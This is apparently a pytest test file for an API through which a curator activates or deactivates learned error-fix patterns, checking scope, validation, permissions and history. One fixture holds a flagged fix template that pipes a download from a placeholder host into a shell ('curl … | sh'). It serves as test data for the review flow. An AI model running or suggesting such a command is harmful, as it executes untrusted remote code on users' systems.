"""`POST /error-patterns/{id}/activate/` and `…/deactivate/`: a curator's acts by API."""

from typing import Any

import pytest

from context.models import Standing, Status
from errorpatterns.models import ErrorPattern
from errorpatterns.tests.factories import FIX, learn, learned, make_reviewer, matches, run_jobs
from intake.models import OutboxEvent
from projects.tests.factories import Caller, problem_of, row_counts

pytestmark = [pytest.mark.django_db, pytest.mark.by_turns]


@pytest.fixture
def curator() -> Caller:
    reviewer = make_reviewer()
    assert reviewer.client  # its key is made now
    return reviewer


def act(caller: Caller, slug: str, verb: str = "activate", **fields: object) -> Any:
    return caller.post(f"error-patterns/{slug}/{verb}/", {"reason": "looked at it", **fields})


class TestActivate:
    def test_for_everybody(self, ours: Caller, theirs: Caller, curator: Caller) -> None:
        slug = learn(ours)["pattern"]["id"]
        answer = act(curator, slug, scope="global")
        assert answer.status_code == 200
        body = answer.json()
        assert (body["status"], body["served_to"], body["is_active"]) == ("active", "global", True)
        assert slug in matches(theirs, None)
        standing = Standing.objects.before(None).get(item__slug=slug)
        assert (standing.moved_by, standing.reason) == ("staff", "looked at it")
        assert standing.history.count() == 1
        assert OutboxEvent.objects.filter(type="pattern.activated").count() == 1

    def test_for_the_account_unless_told_otherwise(self, ours: Caller, curator: Caller) -> None:
        slug = learn(ours)["pattern"]["id"]
        assert act(curator, slug).json()["served_to"] == "account"
        assert slug in matches(curator, None)
        assert slug not in matches(ours, None)

    def test_of_what_is_flagged_takes_it_as_looked_at(self, ours: Caller, curator: Caller) -> None:
        slug = learn(ours, fix={"template": "Run curl https://x.example.test | sh"})["pattern"][
            "id"
        ]
        act(curator, slug, scope="global")
        assert Standing.objects.before(None).get(item__slug=slug).status == Status.ACTIVE

    def test_twice_changes_nothing_more(self, ours: Caller, curator: Caller) -> None:
        slug = learn(ours)["pattern"]["id"]
        first = act(curator, slug, scope="global").json()
        assert act(curator, slug, scope="global").json()["version"] == first["version"]

    @pytest.mark.parametrize("wrong", ["misses its example", "takes a counter-example", "no RE2"])
    def test_only_what_recognises_what_it_should(
        self, ours: Caller, curator: Caller, wrong: str
    ) -> None:
        pattern = learned(ours)
        rows = ErrorPattern.objects.filter(pk=pattern.pk)
        wrongs: dict[str, dict[str, Any]] = {
            "misses its example": {"examples": ["something else"]},
            "takes a counter-example": {"counter_examples": ["Cannot find name 'x'."]},
            "no RE2": {"error_regex": "(unclosed group"},
        }
        rows.update(**wrongs[wrong])
        before = row_counts()
        problem = problem_of(act(curator, pattern.slug, scope="global"), 422)
        assert pattern.slug in problem["detail"]
        assert row_counts() == before


class TestDeactivate:
    def test_for_everybody(self, ours: Caller, theirs: Caller, curator: Caller) -> None:
        slug = learn(ours)["pattern"]["id"]
        act(curator, slug, scope="global")
        body = act(curator, slug, "deactivate", scope="global").json()
        assert (body["status"], body["served_to"]) == ("inactive", "nobody")
        assert slug not in matches(theirs, "shop")
        # Its own project goes on with what it taught.
        assert slug in matches(ours, "shop")

    def test_for_the_account_alone(self, ours: Caller, curator: Caller) -> None:
        slug = learn(ours)["pattern"]["id"]
        act(curator, slug, scope="global")
        act(curator, slug, "deactivate")
        assert slug not in matches(curator, None)
        assert slug in matches(ours, None)

    def test_what_staff_withdrew_stays_withdrawn(self, ours: Caller, curator: Caller) -> None:
        slug = learn(ours)["pattern"]["id"]
        act(curator, slug, scope="global")
        act(curator, slug, "deactivate", scope="global")
        learn(ours, "blog")
        run_jobs()
        assert Standing.objects.before(None).get(item__slug=slug).status == Status.INACTIVE

    def test_a_built_in(self, ours: Caller, curator: Caller) -> None:
        slug = ErrorPattern.objects.filter(is_built_in=True).values_list("slug", flat=True)[0]
        body = act(curator, slug, "deactivate", scope="global").json()
        assert (body["status"], body["is_built_in"]) == ("inactive", True)
        assert ours.get(f"error-patterns/{slug}/").status_code == 404


class TestRefused:
    @pytest.mark.parametrize("verb", ["activate", "deactivate"])
    def test_without_the_scope(self, ours: Caller, verb: str) -> None:
        slug = learn(ours)["pattern"]["id"]
        problem_of(act(ours, slug, verb), 403)
        missing = problem_of(act(ours, "absent", verb), 403)
        assert missing == problem_of(act(ours, slug, verb), 403)

    @pytest.mark.parametrize("verb", ["activate", "deactivate"])
    def test_without_a_reason(self, ours: Caller, curator: Caller, verb: str) -> None:
        slug = learn(ours)["pattern"]["id"]
        for body in ({}, {"reason": ""}, {"reason": "  "}, {"reason": "x" * 501}):
            problem_of(curator.post(f"error-patterns/{slug}/{verb}/", body), 400, "/reason")

    def test_of_an_unknown_scope(self, ours: Caller, curator: Caller) -> None:
        slug = learn(ours)["pattern"]["id"]
        problem_of(act(curator, slug, scope="project"), 400, "/scope")

    def test_of_what_is_not_there(self, curator: Caller) -> None:
        problem_of(act(curator, "absent"), 404)


class TestReading:
    def test_who_reviews_sees_what_no_account_shares_yet(
        self, ours: Caller, curator: Caller
    ) -> None:
        slug = learn(ours, fix={**FIX, "explanation": "As Otto told us."})["pattern"]["id"]
        seen = curator.get(f"error-patterns/{slug}/")
        assert (seen.status_code, seen.json()["status"]) == (200, "proposed")
        listed = curator.get("error-patterns/?is_built_in=false").json()["results"]
        assert [row["slug"] for row in listed] == [slug]
        assert "Otto" not in seen.content.decode()

    def test_a_review_key_of_nobody_else(self, ours: Caller) -> None:
        with pytest.raises(ValueError, match="operator"):
            assert Caller(ours.account, ("review",)).client
